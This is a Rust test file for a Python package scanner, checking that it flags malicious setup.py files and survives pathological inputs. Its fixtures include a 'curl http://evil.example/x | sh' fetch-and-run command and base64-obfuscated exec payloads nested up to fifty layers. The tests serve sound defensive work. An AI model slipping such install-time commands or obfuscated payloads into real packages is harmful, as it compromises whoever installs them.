//! Hostile Python sources (issue 7): inspected as far as safely possible,
//! never a stack overflow, a hang or a panic. Each case runs inside a real
//! sdist through `inspect_bytes`, on a scanner-sized stack, under a time bound.

mod common;

use base64::Engine;
use common::hostile::*;
use guard::policy::Verdict;

fn sdist_with_setup(setup: &[u8]) -> Vec<u8> {
    common::artifacts::Package::new("pkg", "1.0")
        .headers("")
        .pkg_info()
        .file("setup.py", setup)
        .sdist()
        .1
}

fn rules(findings: &[guard::inspect::Finding]) -> Vec<&str> {
    findings.iter().map(|f| f.rule).collect()
}

#[test]
fn python2_source_is_still_inspected() {
    let src = b"import os\nprint 'installing'\nexec \"import os\"\nos.system('curl http://evil.example/x | sh')\n";
    let (v, f) = scan("pkg-1.0.tar.gz", &sdist_with_setup(src));
    assert_ne!(v, Verdict::Allow, "{:?}", rules(&f));
    assert!(rules(&f).contains(&"shell-command"), "{:?}", rules(&f));
}

#[test]
fn syntax_errors_fall_back_to_the_lexical_scan() {
    let src = b"def broken(:\n    pass\nimport base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n((((\n";
    let (v, f) = scan("pkg-1.0.tar.gz", &sdist_with_setup(src));
    assert_ne!(v, Verdict::Allow, "{:?}", rules(&f));
}

#[test]
fn ten_megabyte_single_line() {
    let mut src = b"x = '".to_vec();
    src.extend(std::iter::repeat_n(b'A', 10 << 20));
    src.extend(b"'\nimport os; os.system('curl http://evil.example | sh')\n");
    let (v, f) = scan("pkg-1.0.tar.gz", &sdist_with_setup(&src));
    // The shell command after the huge line is still found.
    assert_ne!(v, Verdict::Allow, "{:?}", rules(&f));
}

#[test]
fn hundred_thousand_nested_parentheses() {
    let mut src = b"x = ".to_vec();
    src.extend(std::iter::repeat_n(b'(', 100_000));
    src.push(b'1');
    src.extend(std::iter::repeat_n(b')', 100_000));
    src.extend(b"\n");
    let (_, f) = scan("pkg-1.0.tar.gz", &sdist_with_setup(&src));
    let _ = f;
    // Unbalanced, and nested lists/calls/lambdas, too.
    for (open, close) in [
        ("(", ""),
        ("[", "]"),
        ("f(", ")"),
        ("lambda: ", ""),
        ("-", ""),
        ("not ", ""),
    ] {
        let src = format!("x = {}1{}\n", open.repeat(100_000), close.repeat(100_000));
        let _ = scan("pkg-1.0.tar.gz", &sdist_with_setup(src.as_bytes()));
    }
    // Deeply nested blocks.
    let mut src = String::new();
    for i in 0..2_000 {
        src.push_str(&" ".repeat(i));
        src.push_str("if x:\n");
    }
    src.push_str(&" ".repeat(2_000));
    src.push_str("pass\n");
    let _ = scan("pkg-1.0.tar.gz", &sdist_with_setup(src.as_bytes()));
    // Deep sources skip the syntax tree (CPython refuses them too).
    assert!(guard::inspect::python::too_deep(&"(".repeat(201)));
    assert!(!guard::inspect::python::too_deep(&"(".repeat(200)));
    assert!(guard::inspect::python::too_deep(&"-".repeat(5_001)));
    // Keywords chain like operators; a comma or a newline after the last one ends the chain.
    assert!(guard::inspect::python::too_deep(&format!(
        "x = {}1\n",
        "not ".repeat(5_001)
    )));
    assert!(!guard::inspect::python::too_deep(&format!(
        "x = {}1\n",
        "not ".repeat(5_000)
    )));
    assert!(!guard::inspect::python::too_deep(&format!(
        "{}not,\n",
        "-".repeat(5_000)
    )));
    assert!(!guard::inspect::python::too_deep(&format!(
        "{}not\n",
        "-".repeat(5_000)
    )));
    assert!(guard::inspect::python::too_deep(&format!(
        "({}not\n",
        "-".repeat(5_000)
    )));
    // Indentation deeper than 100 levels.
    let deep: String = (0..101).map(|i| format!("{}if x:\n", " ".repeat(i))).collect();
    assert!(guard::inspect::python::too_deep(&deep));
    assert!(!guard::inspect::python::too_deep(
        &deep.replace(&format!("\n{}if", " ".repeat(100)), "\nif")
    ));
    assert!(!guard::inspect::python::too_deep(&format!(
        "x = [{}]\n",
        "-1.5, ".repeat(50_000)
    )));
}

#[test]
fn fifty_deep_decoded_payloads() {
    let b64 = base64::engine::general_purpose::STANDARD;
    let mut code = "import os\nos.system('curl http://evil.example/x | sh')\n".to_string();
    for _ in 0..50 {
        code = format!("import base64\nexec(base64.b64decode('{}'))\n", b64.encode(&code));
    }
    let (v, f) = scan("pkg-1.0.tar.gz", &sdist_with_setup(code.as_bytes()));
    assert_eq!(v, Verdict::Deny, "{:?}", rules(&f));
    assert!(rules(&f).contains(&"exec-decoded-payload"), "{:?}", rules(&f));
}

#[test]
fn fifty_deep_decoder_expression() {
    let b64 = base64::engine::general_purpose::STANDARD;
    // exec(b64decode(b64decode(...))) 50 deep in one expression.
    let mut inner = b64.encode("import os; os.system('id')");
    for _ in 0..49 {
        inner = b64.encode(&inner);
    }
    let mut expr = format!("'{inner}'");
    for _ in 0..50 {
        expr = format!("base64.b64decode({expr})");
    }
    let src = format!("import base64\nexec({expr})\n");
    let (v, f) = scan("pkg-1.0.tar.gz", &sdist_with_setup(src.as_bytes()));
    assert_eq!(v, Verdict::Deny, "{:?}", rules(&f));
}

#[test]
fn binary_junk_named_py() {
    let mut junk = Vec::with_capacity(1 << 20);
    let mut x: u32 = 0x1234_5678;
    for _ in 0..(1 << 20) {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        junk.push(x as u8);
    }
    let _ = scan("pkg-1.0.tar.gz", &sdist_with_setup(&junk));
    // NULs, lone surrogates-as-bytes, a BOM, CR-only line ends.
    let odd: &[&[u8]] = &[
        b"\x00\x00\x00import os\x00",
        b"\xed\xa0\x80\xed\xb0\x80 = 1\n",
        b"\xef\xbb\xbfimport os\ros.system('id')\r",
        b"\xff\xfe\x00i\x00m\x00p\x00o\x00r\x00t",
        b"\\\n\\\n\\\n",
        b"'''",
        b"f'{",
    ];
    for src in odd {
        let _ = scan("pkg-1.0.tar.gz", &sdist_with_setup(src));
    }
}

/// Slow in debug builds (minutes on shared cores): run with `--ignored`, or
/// see bench/hostile.sh for the release timing of the 20-file version.
#[test]
#[ignore]
fn many_files_each_at_the_member_limit() {
    // 4 sources of 8 MiB (20 in bench/hostile.sh): analysed one by one, bounded by the archive's total.
    let body = {
        let mut b = Vec::with_capacity(8 << 20);
        while b.len() < (8 << 20) - 64 {
            b.extend(b"x = call(a, b, 'str') + [1, 2, 3]\n");
        }
        b
    };
    let names: Vec<String> = (0..4).map(|i| format!("pkg-1.0/pkg/m{i}.py")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), body.as_slice())).collect();
    let (_, f) = scan("pkg-1.0.tar.gz", &gz(&tar_of(&files)));
    let _ = f;
}
